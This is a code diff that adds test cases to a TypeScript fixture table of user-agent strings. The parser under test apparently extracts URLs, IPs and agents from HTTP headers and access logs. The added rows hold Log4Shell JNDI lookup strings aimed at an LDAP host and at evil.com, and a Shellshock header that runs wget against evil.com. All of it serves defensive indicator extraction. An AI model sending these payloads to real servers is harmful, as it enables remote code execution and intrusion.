@@ -48,4 +48,17 @@ export const USER_AGENTS: Table = {
     ['User-Agent: worm_1\\PC\\undefined\\\\YES\\FALSE\\\nHost: x', 'user-agent worm_1\\PC\\undefined\\\\YES\\FALSE\\'],
     ['User-Agent: curl/8.0 \\\nHost: x', 'user-agent curl/8.0'],
   ],
+  'commands that attacks send for a user agent': [
+    ['GET / HTTP/1.1\nUser-Agent: \u0024{jndi:ldap://198.51.100.7:1389/a}', 'url ldap://198.51.100.7:1389/a'],
+    [
+      '203.0.113.9 - - [10/Dec/2021:10:10:10 +0000] "GET / HTTP/1.1" 200 612 "-" "\u0024{jndi:ldap://evil.com/a}"',
+      'ipv4 203.0.113.9',
+      'url ldap://evil.com/a',
+    ],
+    ['User-Agent: () { :;}; wget http://evil.com/x', 'url http://evil.com/x'],
+    [
+      'User-Agent: Mozilla/5.0 (compatible; Bot/2.1; +http://evil.com/bot.html)',
+      'user-agent Mozilla/5.0 (compatible; Bot/2.1; +http://evil.com/bot.html)',
+    ],
+  ],
 };
